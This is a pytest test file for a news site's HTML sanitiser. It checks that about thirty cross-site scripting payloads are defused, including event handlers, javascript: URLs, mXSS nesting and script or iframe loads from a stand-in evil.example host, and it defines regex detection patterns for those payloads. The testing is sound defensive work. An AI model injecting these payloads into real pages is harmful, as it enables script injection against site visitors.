"""The one allow-list: hostile markup never survives a save, the editor's own markup always does."""

import re

import pytest

from articles.text.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, clean_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<p>نص<script>document.cookie</script></p>",
    '<img src=x onerror="alert(1)">',
    '<p onclick="alert(1)">اضغط</p>',
    '<a href="#" onmouseover="alert(1)">رابط</a>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<body onload="alert(1)">',
    '<a href="javascript:alert(1)">رابط</a>',
    '<a href="JaVaScRiPt:alert(1)">رابط</a>',
    '<a href=" javascript:alert(1)">رابط</a>',
    '<a href="java\tscript:alert(1)">رابط</a>',
    '<a href="&#106;avascript:alert(1)">رابط</a>',
    '<a href="vbscript:msgbox(1)">رابط</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">رابط</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<p style="background:url(javascript:alert(1))">نص</p>',
    '<span style="position:fixed;top:0">غطاء</span>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="q" onfocus="alert(1)" autofocus></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="https://example.org/" target="_blank" rel="opener">رابط</a>',
    '<blockquote cite="javascript:alert(1)">اقتباس</blockquote>',
]

FORBIDDEN = [
    re.compile(r"<\s*script", re.I),
    re.compile(r"<\s*(iframe|object|embed|style|link|meta|base|form|input|svg|math|img)\b", re.I),
    re.compile(r"\son\w+\s*=", re.I),
    re.compile(r"javascript:|vbscript:|data:", re.I),
    re.compile(r"\sstyle\s*=", re.I),
    re.compile(r"\starget\s*=", re.I),
]


@pytest.mark.parametrize("snippet", HOSTILE)
def test_hostile_markup_is_defused(snippet):
    cleaned = clean_html(snippet)
    for pattern in FORBIDDEN:
        assert not pattern.search(cleaned), (snippet, cleaned)


def test_cleaning_is_stable():
    for snippet in HOSTILE:
        once = clean_html(snippet)
        assert clean_html(once) == once


def test_text_around_hostile_markup_is_kept():
    assert clean_html("<p>نص<script>document.cookie</script> باقٍ</p>") == "<p>نص باقٍ</p>"


def test_newsroom_markup_survives():
    html = (
        "<h2>عنوان فرعي</h2><h3>فقرة</h3><p>نص <strong>عريض</strong> و<em>مائل</em>"
        "<br>سطر</p><ul><li>أول</li></ul><ol><li>ثانٍ</li></ol>"
        "<blockquote><p>قال المتحدث</p></blockquote>"
    )
    assert clean_html(html) == html


def test_links_keep_their_address_and_gain_a_safe_rel():
    cleaned = clean_html('<a href="https://example.org/خبر" title="مصدر">المصدر</a>')
    assert 'href="https://example.org/خبر"' in cleaned
    assert 'rel="noopener noreferrer"' in cleaned


def test_everything_the_rich_text_editor_makes_is_allowed():
    """The editor offers only what the allow-list keeps, so nothing typed is silently lost."""
    from django_prose_editor.config import allowlist_from_extensions, expand_extensions

    from articles.desk.forms import BODY_EDITOR_EXTENSIONS

    editor = allowlist_from_extensions(expand_extensions(BODY_EDITOR_EXTENSIONS))
    assert set(editor["tags"]) <= ALLOWED_TAGS
    assert set(editor["attributes"].get("a", ())) - {"rel", "target"} <= ALLOWED_ATTRIBUTES["a"]


def test_empty_body_stays_empty():
    assert clean_html("") == ""
    assert clean_html(None) == ""
